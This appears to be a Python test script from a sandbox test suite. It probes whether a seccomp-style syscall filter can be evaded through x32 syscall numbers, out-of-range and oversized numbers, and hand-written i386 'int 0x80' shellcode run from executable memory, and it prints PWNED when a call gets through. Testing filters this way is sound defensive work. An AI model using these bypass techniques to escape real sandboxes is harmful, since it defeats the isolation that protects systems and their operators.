"""Call the kernel by the numbers of another architecture: x32 and 32-bit calls that a filter may mistake.

Shows: PWNED on stdout.
"""

import mmap
import os
import platform

from kit import ctypes, libc, pwned


def alone(function):
    """In a child, which the filter may kill."""
    child = os.fork()
    if child == 0:
        if function() >= 0:
            pwned(function.__name__)
        os._exit(0)
    print(function.__name__, os.waitpid(child, 0)[1])


def x32():
    return libc.syscall(ctypes.c_long(0x40000000 + 39))  # getpid


def x32_socket():
    return libc.syscall(ctypes.c_long(0x40000000 + 41), 2, 1, 0)


def number_of_a_future_kernel():
    return libc.syscall(ctypes.c_long(0x7FFFFFFF), 0)


def with_a_large_number():
    return libc.syscall(ctypes.c_long((1 << 32) + 321), 0, 0, 0)  # bpf, if only the lower half were looked at


def thirty_two_bits():
    # mov eax, 20 (getpid of i386); int 0x80; ret
    code = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()


if platform.machine() == "x86_64":
    for function in (x32, x32_socket, number_of_a_future_kernel, thirty_two_bits):
        alone(function)
